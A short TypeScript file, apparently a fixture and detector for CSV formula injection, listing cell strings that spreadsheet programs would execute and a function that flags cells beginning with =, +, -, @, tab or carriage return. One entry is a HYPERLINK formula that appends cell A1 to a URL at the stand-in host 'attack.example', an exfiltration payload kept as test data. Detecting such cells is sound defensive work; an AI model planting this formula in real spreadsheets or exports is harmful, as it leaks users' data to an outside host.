/** Texts that a sheet program would run, or take for another, if they stood in a cell as they are. */
export const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://attack.example/?"&A1,"Look")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '"=1+1',
  ' =1+1',
  ',=1+1',
  '1\r\n=1+1',
];

/** Cells of a CSV file that a sheet program would run; a dash alone is only a dash. */
export function runningCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && cell !== '-');
}
